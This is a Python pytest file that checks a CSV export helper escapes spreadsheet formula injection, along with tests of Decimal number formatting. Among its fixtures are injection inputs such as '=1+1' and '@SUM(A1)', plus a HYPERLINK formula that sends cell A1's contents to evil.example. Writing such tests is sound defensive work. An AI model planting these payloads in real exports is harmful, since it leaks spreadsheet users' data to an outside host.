"""A CSV that a spreadsheet only shows."""

import csv
import io
from decimal import Decimal

import pytest

from audit.sheets import as_csv, cell


class TestCell:
    @pytest.mark.parametrize("text", ["=1+1", "+49", "-1", "@SUM(A1)", "\t1", "\r1", " =1", '=HYPERLINK("x")'])
    def test_of_text_that_would_run_is_kept_from_running(self, text):
        assert cell(text) == f"'{text}"

    def test_leaves_numbers_and_plain_text_alone(self):
        assert [cell(value) for value in (-1.5, 0, "pay-refund", None)] == ["-1.5", "0", "pay-refund", ""]

    @pytest.mark.parametrize("separator", [",", ";", "\t"])
    @pytest.mark.parametrize(
        "text",
        [
            'gpt;=HYPERLINK("https://evil.example/?"&A1)', "x;=1+1", "x; -1", "x;\t@SUM(A1)", "x\t=1+1", "x\n=1+1\n", "x\r+1",
            "\t=1", 'x;"=1+1;', 'x;""=1+1;"', "x\n- item",
        ],
    )  # fmt: skip
    def test_begins_no_cell_that_runs_whatever_separates(self, text, separator):
        sheet = as_csv(["model", "note", "amount"], [[text, text, 1]])

        cells = [value for row in csv.reader(io.StringIO(sheet, newline=None), delimiter=separator) for value in row]
        assert [value for value in cells if value.lstrip(' "').startswith(("=", "+", "-", "@"))] == []

    @pytest.mark.parametrize("text", ["a;b", "one\ntwo", "x; y = 1", "e-mail;post", "2026-01-01\n2026-01-02"])
    def test_of_several_parts_that_do_not_run_is_as_it_was(self, text):
        assert cell(text) == text

    def test_stands_in_a_line_as_csv_says(self):
        assert as_csv(["a", "b"], [['say "x"', "=1,2"]]) == 'a,b\r\n"say ""x""","\'=1,2"\r\n'


@pytest.mark.parametrize(
    ("number", "shown"),
    [
        ("0E-10", "0"),
        ("28.0000000000", "28"),
        ("0.10", "0.1"),
        ("1E+3", "1000"),
        ("-2.50", "-2.5"),
        ("-0.00", "0"),
    ],
)
def test_a_number_has_no_exponent_and_no_idle_zeros(number, shown):
    assert cell(Decimal(number)) == shown
